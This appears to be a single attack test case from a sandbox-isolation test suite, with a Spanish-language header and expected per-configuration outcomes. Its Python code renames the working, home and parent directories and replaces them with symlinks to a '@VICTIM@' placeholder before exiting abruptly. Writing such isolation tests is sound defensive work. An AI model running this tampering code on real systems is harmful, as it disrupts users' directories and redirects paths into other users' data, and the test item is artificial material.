# /// attack
# tries = "Cambia su propia carpeta de trabajo y su casa por enlaces a una carpeta ajena, y muere"
# from = "user"
# expected = { a = "passed", b = "lost", c = "passed", d = "passed" }
# cell = ["killed"]
# ///
# %%
import os, shutil
aqui = os.getcwd()
for carpeta in (aqui, os.environ.get("HOME", aqui), os.path.dirname(aqui)):
    try:
        os.rename(carpeta, carpeta + "-movida")
        os.symlink("@VICTIM@", carpeta)
    except OSError:
        pass
os._exit(0)
